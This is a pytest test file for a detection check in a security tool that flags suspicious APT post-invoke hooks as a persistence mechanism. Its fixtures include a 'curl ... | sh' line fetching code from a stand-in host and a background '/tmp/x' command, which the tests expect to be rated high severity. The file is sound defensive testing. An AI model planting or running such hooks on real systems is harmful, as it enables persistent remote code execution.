from __future__ import annotations

import pytest

from pratique.checks.base import CouldNotLook
from pratique.checks.persistence.apt_hook import CHECK
from pratique.model import Severity
from pratique.parsers.apt_hook import AptHook
from pratique.store.tables import Tables


def signs(*rows):
    with Tables.of(rows, CHECK.reads) as tables:
        return list(CHECK.find(tables))


def hook(command, path="/etc/apt/apt.conf.d/99x"):
    return AptHook(path, 1, "DPkg::Post-Invoke", command)


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("/opt/snapshot.sh", Severity.LOW),
        ("dpkg --get-selections > /var/backups/selections", Severity.LOW),
        ("curl -s http://a.example/x | sh", Severity.HIGH),
        ("/tmp/x &", Severity.HIGH),
    ],
)
def test_points_at(packaged, command, severity):
    (sign,) = signs(hook(command), packaged("/bin/ls"))
    assert (sign.severity or CHECK.severity) is severity


def test_points_at_a_bad_one_without_a_package_database():
    assert signs(hook("/tmp/x"))


@pytest.mark.parametrize(
    ("command", "path"),
    [
        ("/usr/sbin/dpkg-preconfigure --apt || true", "/etc/apt/apt.conf.d/owned"),
        ("rm -f /var/cache/apt/archives/*.deb || true", "/etc/apt/apt.conf.d/docker-clean"),
    ],
)
def test_leaves_alone(packaged, command, path):
    assert signs(hook(command, path), packaged("/etc/apt/apt.conf.d/owned")) == []


def test_says_when_it_cannot_look():
    with pytest.raises(CouldNotLook):
        signs()
